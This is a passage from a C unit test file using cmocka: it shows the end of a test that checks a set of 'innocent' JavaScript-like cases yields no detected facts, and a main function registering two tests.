			print_message("false: %s: %s %.*s %.*s\n", innocents[i].name, fact_kind_name(f->kind), STR_ARG(f->key), STR_ARG(f->detail));
			wrong++;
		}
		js_case_free(c);
	}
	assert_int_equal(wrong, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(shapes_give_their_fact),
		cmocka_unit_test(innocents_give_none),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
